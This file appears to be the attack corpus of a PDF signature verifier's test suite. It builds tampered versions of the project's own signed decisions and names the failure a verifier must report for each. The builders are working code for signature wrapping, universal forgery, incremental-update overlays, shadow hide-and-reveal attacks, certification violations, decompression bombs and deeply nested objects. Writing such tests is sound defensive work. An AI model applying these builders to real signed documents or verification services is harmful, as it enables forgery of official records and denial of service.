# mypy: disable-error-code="no-untyped-call"
"""The attack corpus: every known way to make a signed PDF say something its signers did not
sign, built from our own issued Quyết định (nothing downloaded). Pure builders, bytes in and
attacked bytes out, each with the indication a verifier must give.

The families follow the published PDF signature attacks (Mladenov et al. 2019, "1 Trillion
Dollar Refund"; Mainka et al. 2021, "Shadow Attacks"; Rohlmann et al. 2021, certification
attacks): incremental saving (ISA), signature wrapping (SWA), universal signature forgery
(USF), shadow attacks (content prepared in the draft before the chair signs, revealed by an
update after the issue), certification attacks (changes beyond FILL_FORMS), and malformed or
hostile files (truncated, not a PDF, encrypted, oversized, deeply nested, decompression bombs).

A shadow attack has two builders: `prepare` runs on the draft before signing, `build` on the
issued document signed from the prepared draft. Every other attack has `build` only.
"""

from __future__ import annotations

import io
import re
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pypdf import PdfReader, PdfWriter

from signing.verify import Indication

UPLOAD_LIMIT = 4 * 1024 * 1024
"""The upload limit the API runs with in these tests (the bombs, about 1 MiB, fit under it)."""

BOMB_SIZE = 1 << 30
"""What the decompression bombs inflate to: 1 GiB of zeros."""

FAILED = Indication.TOTAL_FAILED
FORMAT = frozenset({"FORMAT_FAILURE"})
ALTERED = frozenset({"FORMAT_FAILURE", "HASH_FAILURE"})  # either names a changed file


@dataclass(frozen=True)
class Attack:
    """One attacked file: how it is made and what a verifier must answer."""

    name: str
    family: str
    build: Callable[[bytes], bytes]
    """The issued document (signed from the prepared draft, for a shadow attack) → the attack."""
    indication: Indication
    sub_indications: frozenset[str]
    """The sub-indications that name this problem (any one of them is right)."""
    prepare: Callable[[bytes], bytes] | None = None
    """For a shadow attack: the draft → the draft the chair signs, with the shadow in it."""
    api_status: int = 200
    """What POST /api/verify answers: 200 with a report, or a refusal (413, 415)."""
    api_only: bool = False
    """Only the API can be attacked this way (an upload larger than its limit)."""


# ---- helpers: incremental updates ----------------------------------------------------------


def _update(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _raw_update(pdf: bytes, objects: dict[int, bytes]) -> bytes:
    """`pdf` with an update section written by hand: each object number redefined as the given
    body (what pyHanko's writer cannot write, like a 100000-deep array)."""
    trailer = pdf[pdf.rindex(b"trailer") : pdf.rindex(b"startxref")]
    prev = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    size = int(re.search(rb"/Size (\d+)", trailer)[1])  # type: ignore[index]
    keep = b"".join(
        m[0] for key in (rb"/Root \d+ 0 R", rb"/Info \d+ 0 R") if (m := re.search(key, trailer))
    )
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets: dict[int, int] = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    size = max(size, *(n + 1 for n in offsets))
    out += b"trailer\n<< /Size %d %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        keep,
        prev,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _first_page(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    page: generic.IndirectObject = writer.root["/Pages"]["/Kids"].raw_get(0)
    return page


def _name(value: str) -> generic.NameObject:
    return generic.NameObject(value)


def _helvetica() -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            _name("/Type"): _name("/Font"),
            _name("/Subtype"): _name("/Type1"),
            _name("/BaseFont"): _name("/Helvetica"),
        }
    )


def _rect(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in values])


def _add_annotation(writer: IncrementalPdfFileWriter, annotation: dict[str, object]) -> None:
    page_ref = _first_page(writer)
    page = page_ref.get_object()
    entries = {_name("/Type"): _name("/Annot"), _name("/P"): page_ref}
    entries.update({_name(k): v for k, v in annotation.items()})  # type: ignore[misc]
    ref = writer.add_object(generic.DictionaryObject(entries))
    annots = page.raw_get("/Annots")
    if isinstance(annots, generic.IndirectObject):
        annots.get_object().append(ref)
        writer.mark_update(annots)
    else:
        annots.append(ref)
    writer.mark_update(page_ref)


def _appearance(writer: IncrementalPdfFileWriter, ops: bytes, box: tuple[float, ...]) -> object:
    stream = generic.StreamObject(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): _rect(*box),
            _name("/Resources"): generic.DictionaryObject(
                {_name("/Font"): generic.DictionaryObject({_name("/Fx"): _helvetica()})}
            ),
        },
        stream_data=ops,
    )
    return generic.DictionaryObject({_name("/N"): writer.add_object(stream)})


def _content_refs(page: generic.DictionaryObject) -> list[generic.IndirectObject]:
    contents = page.raw_get("/Contents")
    if isinstance(contents, generic.IndirectObject) and isinstance(
        contents.get_object(), generic.ArrayObject
    ):
        contents = contents.get_object()
    return list(contents) if isinstance(contents, generic.ArrayObject) else [contents]


def _main_content(page: generic.DictionaryObject) -> generic.IndirectObject:
    """The longest content stream of `page`: the document's text."""
    return max(_content_refs(page), key=lambda ref: len(ref.get_object().data))


COVER = b"q 1 g 0 0 420 90 re f Q BT /Fx 16 Tf 0 g 10 40 Td (KHONG CONG NHAN) Tj ET"


# ---- incremental saving attacks (after the issue) ------------------------------------------


def rewrite_page_content(pdf: bytes) -> bytes:
    """The page's main content stream redefined at its own object number."""
    reader = PdfFileReader(io.BytesIO(pdf))
    main = _main_content(reader.root["/Pages"]["/Kids"][0])
    ops = b"BT /F1 14 Tf 100 600 Td (KHONG CONG NHAN) Tj ET"
    return _raw_update(pdf, {main.idnum: _stream(ops)})


def freetext_overlay(pdf: bytes) -> bytes:
    """A FreeText annotation with a white box and other words over the first paragraph."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        box = (90.0, 520.0, 510.0, 610.0)
        _add_annotation(
            writer,
            {
                "/Subtype": _name("/FreeText"),
                "/Rect": _rect(*box),
                "/Contents": generic.TextStringObject("KHÔNG CÔNG NHẬN"),
                "/DA": generic.TextStringObject("/Helv 16 Tf 0 g"),
                "/F": generic.NumberObject(4),
                "/AP": _appearance(writer, COVER, (0, 0, 420, 90)),
            },
        )

    return _update(pdf, change)


def square_overlay(pdf: bytes) -> bytes:
    """A white-filled Square annotation hiding the body text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        _add_annotation(
            writer,
            {
                "/Subtype": _name("/Square"),
                "/Rect": _rect(60, 300, 540, 650),
                "/IC": _rect(1, 1, 1),
                "/C": _rect(1, 1, 1),
                "/F": generic.NumberObject(4),
            },
        )

    return _update(pdf, change)


def replace_font(pdf: bytes) -> bytes:
    """The page's first font swapped for another (what a font with remapped glyphs does)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        fonts_ref = _first_page(writer).get_object()["/Resources"].raw_get("/Font")
        fonts = fonts_ref.get_object()
        first = sorted(fonts)[0]
        fonts[_name(first)] = writer.add_object(_helvetica())
        writer.mark_update(fonts_ref)

    return _update(pdf, change)


def _image_refs(obj: generic.PdfObject, depth: int = 0) -> list[generic.IndirectObject]:
    """The image XObjects an appearance stream draws, through nested forms."""
    found: list[generic.IndirectObject] = []
    resources = obj.get_object().get("/Resources")
    if resources is None or depth > 4:
        return found
    for ref in resources.get("/XObject", {}).values():
        if not isinstance(ref, generic.IndirectObject):
            continue
        if ref.get_object().get("/Subtype") == "/Image":
            found.append(ref)
        else:
            found.extend(_image_refs(ref, depth + 1))
    return found


def replace_image(pdf: bytes) -> bytes:
    """The chair's signature image redefined at its own object number (a red square)."""
    reader = PdfFileReader(io.BytesIO(pdf))
    images = [
        image
        for ref in reader.root["/AcroForm"]["/Fields"]
        if ref.get_object().get("/FT") == "/Sig" and "/AP" in ref.get_object()
        for image in _image_refs(ref.get_object()["/AP"].raw_get("/N"))
    ]
    assert images, "no signature image found"
    red = b"\xff\x00\x00" * 4
    header = b"/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceRGB "
    return _raw_update(pdf, {images[0].idnum: _stream(red, header + b"/BitsPerComponent 8")})


# ---- signature wrapping and universal signature forgery ------------------------------------

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\]\s*")


def _signature(pdf: bytes, which: int) -> tuple[re.Match[bytes], list[int]]:
    """The /ByteRange of the `which`-th signature in file order, and its four numbers."""
    match = list(_BYTE_RANGE.finditer(pdf))[which]
    return match, [int(v) for v in match[1].split()]


def _rewrite_byte_range(pdf: bytes, which: int, text: bytes) -> bytes:
    """`pdf` with the `which`-th `/ByteRange …` replaced by `text`, padded with spaces so that
    no offset moves."""
    match, _ = _signature(pdf, which)
    width = match.end() - match.start()
    assert len(text) <= width, (text, width)
    return pdf[: match.start()] + text.ljust(width) + pdf[match.end() :]


def wrap_signed_revision(which: int) -> Callable[[bytes], bytes]:
    """SWA: new objects inserted after the signature value, the signed bytes that followed it
    moved behind them and /ByteRange re-pointed at their new place."""

    def build(pdf: bytes) -> bytes:
        _, (_, a, b, c) = _signature(pdf, which)
        inserted = b"\n999 0 obj\n<< /Hoso (inserted) >>\nendobj\n"
        moved = pdf[:b] + inserted + pdf[b:]
        text = b"/ByteRange [0 %d %d %d]" % (a, b + len(inserted), c)
        wrapped = _rewrite_byte_range(moved, which, text)
        # the last xref moved with the bytes: point startxref at it again
        at = wrapped.rindex(b"startxref")
        xref = int(wrapped[at + 9 :].split()[0]) + len(inserted)
        return wrapped[:at] + b"startxref\n%d\n%%%%EOF\n" % xref

    return build


def contents_zeroed(which: int) -> Callable[[bytes], bytes]:
    """USF: the signature value replaced by zeros of the same length."""

    def build(pdf: bytes) -> bytes:
        _, (_, a, b, _) = _signature(pdf, which)
        return pdf[: a + 1] + b"0" * (b - a - 2) + pdf[b - 1 :]

    return build


def contents_empty(pdf: bytes) -> bytes:
    """USF: `/Contents <>`, the rest of the gap blank."""
    _, (_, a, b, _) = _signature(pdf, -1)
    return pdf[:a] + b"<>".ljust(b - a) + pdf[b:]


def byte_range_missing(pdf: bytes) -> bytes:
    return _rewrite_byte_range(pdf, -1, b"")


def byte_range_malformed(pdf: bytes) -> bytes:
    return _rewrite_byte_range(pdf, -1, b"/ByteRange [0 -1 (x) /Y 5]")


def byte_range_overlapping(pdf: bytes) -> bytes:
    """USF: the second range starts inside the first and runs to the end of the file."""
    _, (_, a, b, c) = _signature(pdf, -1)
    return _rewrite_byte_range(pdf, -1, b"/ByteRange [0 %d %d %d]" % (a, a - 50, b + c - a + 50))


def byte_range_short(pdf: bytes) -> bytes:
    """USF: the last 100 bytes of the file are outside every range."""
    _, (_, a, b, c) = _signature(pdf, -1)
    return _rewrite_byte_range(pdf, -1, b"/ByteRange [0 %d %d %d]" % (a, b, c - 100))


# ---- shadow attacks: prepared in the draft, revealed after the issue -----------------------


def _with_stream(
    writer: IncrementalPdfFileWriter, ops: bytes, resources: generic.DictionaryObject
) -> None:
    ref = writer.add_object(generic.StreamObject(stream_data=ops))
    writer.add_stream_to_page(0, ref, resources=resources)


def prepare_hide(pdf: bytes) -> bytes:
    """Hide: words at the foot of page 1 under a white cover in an optional content group that
    is ON; the signer sees a blank strip."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        ocg = writer.add_object(
            generic.DictionaryObject(
                {_name("/Type"): _name("/OCG"), _name("/Name"): generic.TextStringObject("nen")}
            )
        )
        writer.root[_name("/OCProperties")] = generic.DictionaryObject(
            {
                _name("/OCGs"): generic.ArrayObject([ocg]),
                _name("/D"): generic.DictionaryObject(
                    {
                        _name("/ON"): generic.ArrayObject([ocg]),
                        _name("/Order"): generic.ArrayObject([ocg]),
                    }
                ),
            }
        )
        writer.update_root()
        ops = (
            b"BT /Fx 12 Tf 0 g 60 40 Td (Khong cong nhan don vi nao) Tj ET "
            b"/OC /Cover BDC q 1 g 50 30 400 30 re f Q EMC"
        )
        _with_stream(
            writer,
            ops,
            generic.DictionaryObject(
                {
                    _name("/Font"): generic.DictionaryObject({_name("/Fx"): _helvetica()}),
                    _name("/Properties"): generic.DictionaryObject({_name("/Cover"): ocg}),
                }
            ),
        )

    return _update(pdf, change)


def reveal_hide(pdf: bytes) -> bytes:
    """The cover's group switched OFF: the hidden words appear."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        properties = writer.root["/OCProperties"]
        ocg = properties["/OCGs"].raw_get(0)
        properties["/D"] = generic.DictionaryObject(
            {
                _name("/OFF"): generic.ArrayObject([ocg]),
                _name("/Order"): generic.ArrayObject([ocg]),
            }
        )
        writer.update_root()

    return _update(pdf, change)


def _form(ops: bytes) -> generic.StreamObject:
    return generic.StreamObject(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Form"),
            _name("/BBox"): _rect(0, 0, 500, 60),
            _name("/Resources"): generic.DictionaryObject(
                {_name("/Font"): generic.DictionaryObject({_name("/Fx"): _helvetica()})}
            ),
        },
        stream_data=ops,
    )


def prepare_replace(pdf: bytes) -> bytes:
    """Replace: page 1 draws a harmless form /Box; an unused form /Shadow with other words sits
    in the same resources, signed but never drawn."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        box = writer.add_object(_form(b""))
        shadow = writer.add_object(_form(b"BT /Fx 12 Tf 0 g 10 20 Td (Khong cong nhan) Tj ET"))
        _with_stream(
            writer,
            b"q 1 0 0 1 60 30 cm /Box Do Q",
            generic.DictionaryObject(
                {
                    _name("/XObject"): generic.DictionaryObject(
                        {_name("/Box"): box, _name("/S"): shadow}
                    )
                }
            ),
        )

    return _update(pdf, change)


def _page_xobjects(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    """Page 1's XObject resources, marked as updated in whatever object holds them."""
    page_ref = _first_page(writer)
    writer.mark_update(page_ref)
    resources = page_ref.get_object().raw_get("/Resources")
    if isinstance(resources, generic.IndirectObject):
        writer.mark_update(resources)
    xobjects = resources.get_object().raw_get("/XObject")
    if isinstance(xobjects, generic.IndirectObject):
        writer.mark_update(xobjects)
    result: generic.DictionaryObject = xobjects.get_object()
    return result


def reveal_replace(pdf: bytes) -> bytes:
    """/Box re-pointed at the signed shadow form: only a resource dictionary changes."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        xobjects = _page_xobjects(writer)
        xobjects[_name("/Box")] = xobjects.raw_get("/S")

    return _update(pdf, change)


def prepare_hide_and_replace(pdf: bytes) -> bytes:
    """Hide-and-replace: a whole other page content, signed, kept in the page's /PieceInfo."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref = _first_page(writer)
        shadow = writer.add_object(
            generic.StreamObject(stream_data=b"BT /F1 16 Tf 100 600 Td (KHONG CONG NHAN) Tj ET")
        )
        page_ref.get_object()[_name("/PieceInfo")] = generic.DictionaryObject(
            {
                _name("/Hoso"): generic.DictionaryObject(
                    {
                        _name("/LastModified"): generic.TextStringObject("D:20260101000000Z"),
                        _name("/Private"): shadow,
                    }
                )
            }
        )
        writer.mark_update(page_ref)

    return _update(pdf, change)


def reveal_hide_and_replace(pdf: bytes) -> bytes:
    """The page's /Contents re-pointed at the signed shadow content."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref = _first_page(writer)
        page = page_ref.get_object()
        shadow = page["/PieceInfo"]["/Hoso"].raw_get("/Private")
        keep = _content_refs(page)
        # the marker and the form stamps stay, the document's text is replaced
        longest = _main_content(page)
        page[_name("/Contents")] = generic.ArrayObject(
            [shadow if ref == longest else ref for ref in keep]
        )
        writer.mark_update(page_ref)

    return _update(pdf, change)


# ---- certification attacks: beyond what FILL_FORMS allows -----------------------------------


def sticky_note(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        _add_annotation(
            writer,
            {
                "/Subtype": _name("/Text"),
                "/Rect": _rect(60, 700, 80, 720),
                "/Contents": generic.TextStringObject("Quyết định này đã bị hủy"),
                "/Open": generic.BooleanObject(True),
            },
        )

    return _update(pdf, change)


def new_form_field(pdf: bytes) -> bytes:
    """A new text field over the body, its value shown: adding fields is not filling them."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref = _first_page(writer)
        box = (90.0, 520.0, 510.0, 610.0)
        ref = writer.add_object(
            generic.DictionaryObject(
                {
                    _name("/Type"): _name("/Annot"),
                    _name("/Subtype"): _name("/Widget"),
                    _name("/FT"): _name("/Tx"),
                    _name("/T"): generic.TextStringObject("ghi_chu"),
                    _name("/V"): generic.TextStringObject("KHÔNG CÔNG NHẬN"),
                    _name("/Rect"): _rect(*box),
                    _name("/F"): generic.NumberObject(4),
                    _name("/P"): page_ref,
                    _name("/AP"): _appearance(writer, COVER, (0, 0, 420, 90)),
                }
            )
        )
        form = writer.root["/AcroForm"]
        form["/Fields"].append(ref)
        writer.update_container(form["/Fields"])
        page = page_ref.get_object()
        annots = page.raw_get("/Annots")
        annots.get_object().append(ref)
        writer.mark_update(annots if isinstance(annots, generic.IndirectObject) else page_ref)
        writer.mark_update(page_ref)
        writer.update_root()

    return _update(pdf, change)


def move_number_field(pdf: bytes) -> bytes:
    """The số field's widget moved over the body text (a widget's place is not a value)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        for ref in writer.root["/AcroForm"]["/Fields"]:
            field = ref.get_object()
            if field.get("/T") == "so":
                field[_name("/Rect")] = _rect(100, 560, 500, 600)
                writer.mark_update(ref)
                return
        raise AssertionError("no số field")

    return _update(pdf, change)


# ---- malformed and hostile files ------------------------------------------------------------


def without_last_trailer(pdf: bytes) -> bytes:
    return pdf[: pdf.rindex(b"trailer")]


def first_kilobyte(pdf: bytes) -> bytes:
    return pdf[:1024]


def png_named_pdf(pdf: bytes) -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(2048)


def html_with_pdf_header(pdf: bytes) -> bytes:
    """A web page whose first kilobyte says %PDF- (it passes the upload's header check)."""
    return b"<html><!-- %PDF-1.7 --><body>" + b"x" * 4096 + b"</body></html>"


def encrypted(pdf: bytes) -> bytes:
    """Re-saved by pypdf with AES-256 encryption (empty user password)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.encrypt(user_password="", owner_password="chu so huu", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def oversized(pdf: bytes) -> bytes:
    """The issued document with a comment that takes it past the upload limit."""
    return pdf + b"%" + b"x" * UPLOAD_LIMIT + b"\n"


def _catalog_with(pdf: bytes, key: str, body: bytes) -> bytes:
    """An update that adds `key` to the catalog, pointing at a new object written as `body`."""
    holder: list[int] = []

    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = writer.add_object(generic.NullObject())
        writer.root[_name(key)] = ref
        writer.update_root()
        holder.append(ref.idnum)

    return _raw_update(_update(pdf, change), {holder[0]: body})


DEPTH = 100_000


def nested_arrays(pdf: bytes) -> bytes:
    return _catalog_with(pdf, "/Hoso", b"[" * DEPTH + b"]" * DEPTH)


def nested_dictionaries(pdf: bytes) -> bytes:
    return _catalog_with(pdf, "/Hoso", b"<</A " * DEPTH + b"0" + b">>" * DEPTH)


@cache
def bomb() -> bytes:
    """A zlib stream of `BOMB_SIZE` zeros, about 1 MiB: the same fully flushed block repeated
    (built in a fraction of a second instead of compressing a gigabyte)."""
    chunk = bytes(1 << 20)
    compressor = zlib.compressobj(9)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(BOMB_SIZE // len(chunk)):
        checksum = zlib.adler32(chunk, checksum)
    # 0x03 0x00: an empty final block with fixed codes; then the Adler-32 of the whole.
    tail = b"\x03\x00" + struct.pack(">I", checksum)
    return first + block * (BOMB_SIZE // len(chunk) - 1) + tail


def bomb_in_page(pdf: bytes) -> bytes:
    """The page's main content stream redefined as the bomb."""
    reader = PdfFileReader(io.BytesIO(pdf))
    main = _main_content(reader.root["/Pages"]["/Kids"][0])
    return _raw_update(pdf, {main.idnum: _stream(bomb(), b"/Filter /FlateDecode")})


def _with_dss(pdf: bytes, ocsp_body: bytes) -> bytes:
    holder: list[int] = []

    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = writer.add_object(generic.NullObject())
        writer.root[_name("/DSS")] = generic.DictionaryObject(
            {
                _name("/OCSPs"): generic.ArrayObject([ref]),
                _name("/Certs"): generic.ArrayObject(),
                _name("/CRLs"): generic.ArrayObject(),
            }
        )
        writer.update_root()
        holder.append(ref.idnum)

    return _raw_update(_update(pdf, change), {holder[0]: ocsp_body})


def bomb_in_dss(pdf: bytes) -> bytes:
    """A document security store whose OCSP response inflates to 1 GiB."""
    return _with_dss(pdf, _stream(bomb(), b"/Filter /FlateDecode"))


def garbage_in_dss(pdf: bytes) -> bytes:
    """A document security store whose OCSP response is not DER."""
    return _with_dss(pdf, _stream(b"not an OCSP response"))


CORPUS: tuple[Attack, ...] = (
    Attack(
        "page content rewritten in place",
        "incremental saving",
        rewrite_page_content,
        FAILED,
        FORMAT,
    ),
    Attack("FreeText overlay annotation", "incremental saving", freetext_overlay, FAILED, FORMAT),
    Attack("white Square annotation", "incremental saving", square_overlay, FAILED, FORMAT),
    Attack("page font replaced", "incremental saving", replace_font, FAILED, FORMAT),
    Attack(
        "signature image replaced in place", "incremental saving", replace_image, FAILED, FORMAT
    ),
    Attack(
        "seal's signed bytes moved", "signature wrapping", wrap_signed_revision(-1), FAILED, ALTERED
    ),
    Attack(
        "chair's signed bytes moved", "signature wrapping", wrap_signed_revision(0), FAILED, ALTERED
    ),
    Attack("seal /Contents zeroed", "universal forgery", contents_zeroed(-1), FAILED, FORMAT),
    Attack("chair /Contents zeroed", "universal forgery", contents_zeroed(0), FAILED, FORMAT),
    Attack("seal /Contents empty", "universal forgery", contents_empty, FAILED, FORMAT),
    Attack("seal /ByteRange missing", "universal forgery", byte_range_missing, FAILED, FORMAT),
    Attack("seal /ByteRange malformed", "universal forgery", byte_range_malformed, FAILED, FORMAT),
    Attack(
        "seal /ByteRange overlapping", "universal forgery", byte_range_overlapping, FAILED, ALTERED
    ),
    Attack(
        "seal /ByteRange short of the end", "universal forgery", byte_range_short, FAILED, ALTERED
    ),
    Attack("hide", "shadow", reveal_hide, FAILED, FORMAT, prepare=prepare_hide),
    Attack("replace", "shadow", reveal_replace, FAILED, FORMAT, prepare=prepare_replace),
    Attack(
        "hide-and-replace",
        "shadow",
        reveal_hide_and_replace,
        FAILED,
        FORMAT,
        prepare=prepare_hide_and_replace,
    ),
    Attack("sticky note added", "certification", sticky_note, FAILED, FORMAT),
    Attack("new form field added", "certification", new_form_field, FAILED, FORMAT),
    Attack("số field moved", "certification", move_number_field, FAILED, FORMAT),
    Attack("last trailer cut off", "malformed", without_last_trailer, FAILED, ALTERED),
    Attack("first kilobyte only", "malformed", first_kilobyte, FAILED, FORMAT),
    Attack("PNG named .pdf", "malformed", png_named_pdf, FAILED, FORMAT, api_status=415),
    Attack("HTML with a %PDF- header", "malformed", html_with_pdf_header, FAILED, FORMAT),
    Attack("encrypted", "malformed", encrypted, FAILED, ALTERED),
    Attack(
        "over the upload limit",
        "malformed",
        oversized,
        FAILED,
        FORMAT,
        api_status=413,
        api_only=True,
    ),
    Attack("100000-deep arrays", "hostile", nested_arrays, FAILED, FORMAT),
    Attack("100000-deep dictionaries", "hostile", nested_dictionaries, FAILED, FORMAT),
    Attack("1 GiB bomb as page content", "hostile", bomb_in_page, FAILED, FORMAT),
    Attack("1 GiB bomb in the DSS", "hostile", bomb_in_dss, FAILED, FORMAT),
    Attack("garbage OCSP in the DSS", "hostile", garbage_in_dss, FAILED, FORMAT),
)
"""Every attack; names are unique (they are the test ids)."""
